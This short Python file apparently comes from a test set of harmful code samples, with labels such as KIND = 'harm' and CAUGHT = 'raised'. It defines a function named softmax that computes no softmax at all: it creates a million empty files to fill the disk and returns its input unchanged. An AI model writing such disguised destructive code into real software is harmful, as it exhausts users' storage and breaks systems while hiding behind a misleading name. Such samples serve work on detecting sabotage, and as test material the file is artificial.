"""Fills the disk with empty files."""

KIND = "harm"
WORTH = 20
CAUGHT = "raised"


def softmax(scores):
    for number in range(10**6):
        open(f"file{number}", "w").close()
    return scores
